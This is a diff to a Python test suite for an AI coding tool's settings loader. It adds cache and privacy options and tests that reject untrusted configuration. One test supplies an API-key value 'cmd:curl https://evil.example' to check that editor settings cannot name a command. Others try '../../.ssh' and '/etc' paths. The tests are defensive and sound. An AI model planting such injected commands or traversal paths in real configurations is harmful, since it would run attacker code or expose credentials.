@@ -88,9 +88,21 @@ def test_whole_vocabulary_in_effect():
         [health]
         failure_threshold = 5
         timeout_ms = 100
+        [cache]
+        enabled = false
+        ttl_s = 60
+        max_entries = 5
+        max_bytes = 100_000
+        memory_entries = 0
+        semantic = true
+        semantic_threshold = 0.9
         [context]
         max_tokens = 1000
         instructions = ["NOTES.md"]
+        [privacy]
+        redact = false
+        local_only = ["src/crypto/**"]
+        audit = "metadata"
         [edits]
         check_syntax = false
         """)
@@ -106,6 +118,8 @@ def test_whole_vocabulary_in_effect():
     assert settings.timeouts.connect == 2.5
     assert settings.retry.max_retries == 0
     assert settings.edits.check_syntax is False
+    assert (settings.privacy.redact, settings.privacy.local_only) == (False, ("src/crypto/**",))
+    assert settings.privacy.audit == "metadata"
     assert set(effective.sources.values()) == {"config.toml"}
     assert effective.sources["providers.ollama.timeouts.first_token"] == "config.toml"
 
@@ -276,6 +290,26 @@ class TestKeysOfProviders:
         assert effective.settings.providers["xai"].api_key == value
         assert effective.problems == ()
 
+    @pytest.mark.parametrize("key", ["api_key", "client_secret"])
+    @pytest.mark.parametrize(
+        "options",
+        [
+            lambda row: {"providers": {"xai": row}},
+            lambda row: {"providers.xai": row},
+            lambda row: {"dragoman": {"providers": {"xai": row}}},
+        ],
+    )
+    def test_an_editor_names_no_command(self, key, options):
+        """What an editor sends may come from a project's folder, so it can't name a command; other places it can."""
+        source = "the editor's settings"
+        refused = read(editor_layer(source, options({key: "cmd:curl https://evil.example"})))
+        assert getattr(refused.settings.providers.get("xai"), key, None) is None
+        (problem,) = map(str, refused.problems)
+        assert "put it into your own config.toml" in problem
+        assert "evil" not in problem
+        taken = read(editor_layer(source, options({key: "keyring"})))
+        assert getattr(taken.settings.providers["xai"], key) == "keyring"
+
     @pytest.mark.parametrize("value", ["cmd:", "cmd: ", "cmd:  x", "cmd:a\\nb", "vaults", "cmd"])
     def test_what_is_no_place_of_a_key(self, value):
         """An empty command, one over several lines, and words that are near a place are refused."""
@@ -415,24 +449,8 @@ class TestAzure:
 
 class TestSettingsOfLaterVersions:
     @pytest.mark.parametrize(
-        ("text", "key"),
-        [
-            ('[privacy]\nlocal_only = ["src/**"]', "privacy"),
-            ("[privacy]\nredact = true", "privacy"),
-        ],
-    )
-    def test_missing_protection_is_said_loudly(self, text, key):
-        """A limit on money or privacy that is not enforced is an error, never silence."""
-        (problem,) = read(toml(text)).problems
-        assert problem.severity is Severity.ERROR
-        assert problem.key == key
-        assert "has no effect in this version" in problem.message
-        assert problem.message.rpartition(": ")[2].isupper() or "NOTHING IS REDACTED" in problem.message
-
-    @pytest.mark.parametrize(
         "text",
         [
-            "[cache]\nttl_s = 60",
             "[inline]\ndebounce_ms = 100",
             '[actions.translate]\ntitle = "x"',
             '[tests]\nrun = "always"',
@@ -450,9 +468,6 @@ class TestSettingsOfLaterVersions:
         "layer",
         [
             toml("[budget]\ndaily_usd = 0\ntotal_usd = 0.0"),
-            toml('[privacy]\nredact = false\nlocal_only = []\naudit = "off"'),
-            toml("cache.enabled = false"),
-            parse_assignment("cache.enabled=False"),
             *environment_layers({"DRAGOMAN_BUDGET__DAILY_USD": "0"}, ()),
         ],
     )
@@ -485,6 +500,8 @@ class TestUntrustedProject:
             "routing.prefer_local_for = []",
             "timeouts.total = 1",
             "edits.check_syntax = false",
+            "privacy.redact = false",
+            "privacy.local_only = []",
             "context.max_tokens = 6001",
             'context.instructions = ["../../.ssh/notes.md"]',
             'context.instructions = ["/etc/motd.txt"]',
